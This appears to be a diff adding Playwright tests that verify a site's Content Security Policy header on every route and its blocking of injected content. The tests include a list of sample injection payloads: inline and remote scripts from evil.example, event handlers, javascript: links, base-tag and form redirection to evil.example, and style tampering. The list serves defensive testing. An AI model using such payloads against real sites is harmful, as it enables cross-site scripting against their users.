@@ -1,0 +1,69 @@
+import {expect, open} from '../e2e/support/test';
+import {test} from './support/browser';
+import {routes} from './support/site';
+
+// The fixtures fail a test at any console error, page error or failed request; a violation of the policy is one.
+
+test(`no route violates the policy behind nginx (${routes.length} routes)`, async ({page, site}) => {
+  test.setTimeout(300_000);
+  expect(routes.length).toBeGreaterThan(30);
+  for (const route of routes) {
+    const answer = await page.goto(route);
+    expect(answer?.headers()['content-security-policy'], route).toContain("default-src 'none'");
+    await page.mouse.move(5, 5);
+    await page.mouse.move(6, 6);
+    await expect(page.locator('html'), route).toHaveAttribute('data-has-hydrated', 'true');
+    expect(new URL(page.url()).origin).toBe(site.url);
+  }
+});
+
+test('the not-found page does not violate the policy', async ({page, expectProblem}) => {
+  expectProblem(/status of 404/);
+  await open(page, '/unknown');
+  await expect(page.locator('h1')).toHaveCount(1);
+});
+
+test('search with its worker and WebAssembly does not violate the policy', async ({page}) => {
+  await open(page, '/docs/api/overviews');
+  await page.keyboard.press('Control+k');
+  await page.keyboard.type('postback');
+  await expect(page.getByRole('option').first()).toBeVisible();
+  await page.keyboard.press('Enter');
+  await expect(page.getByRole('dialog')).toBeHidden();
+});
+
+// What an attacker would do with a hole in the pages: none of it may run.
+const injections = {
+  'an inline script': `const script = document.createElement('script'); script.textContent = 'hit()'; document.body.append(script);`,
+  'a script of another origin': `const script = document.createElement('script'); script.src = 'https://evil.example/hit.js'; document.body.append(script);`,
+  'an event handler': `document.body.insertAdjacentHTML('beforeend', '<img src="/missing.png" onerror="hit()">');`,
+  'a javascript: link': `document.body.insertAdjacentHTML('beforeend', '<a id="evil" href="javascript:hit()">x</a>'); document.getElementById('evil').click();`,
+  'a frame with a script': `const frame = document.createElement('iframe'); frame.srcdoc = '<script>parent.hit()</' + 'script>'; document.body.append(frame);`,
+  'a style sheet': `document.head.insertAdjacentHTML('beforeend', '<style>h1 {display: none}</style>');`,
+  'a style attribute': `document.querySelector('h1').setAttribute('style', 'display: none');`,
+  'a base address': `document.head.insertAdjacentHTML('afterbegin', '<base href="https://evil.example/">');`,
+  'a form': `document.body.insertAdjacentHTML('beforeend', '<form action="https://evil.example/"><button id="evil">x</button></form>'); document.getElementById('evil').click();`,
+};
+
+for (const [name, code] of Object.entries(injections)) {
+  test(`the policy stops ${name}`, async ({page, expectProblem, site}) => {
+    expectProblem(/Content Security Policy|status of 404|ERR_BLOCKED_BY_CSP|csp/i);
+    let hits = 0;
+    await page.exposeFunction('hit', () => (hits += 1));
+    const address = '/docs/api/overviews';
+    await open(page, address);
+    let violations = 0;
+    page.on('console', (message) => (violations += Number(message.text().includes('Content Security Policy'))));
+    await page.evaluate(code);
+    await expect.poll(() => violations).toBeGreaterThan(0);
+    // Not with locators: they wait for a navigation that the policy has stopped.
+    const state = () => ({
+      base: document.baseURI,
+      address: location.href,
+      isHeadingShown: document.querySelector('h1')?.checkVisibility(),
+    });
+    const wanted = site.url + address;
+    expect(await page.evaluate(state)).toEqual({base: wanted, address: wanted, isHeadingShown: true});
+    expect(hits).toBe(0);
+  });
+}
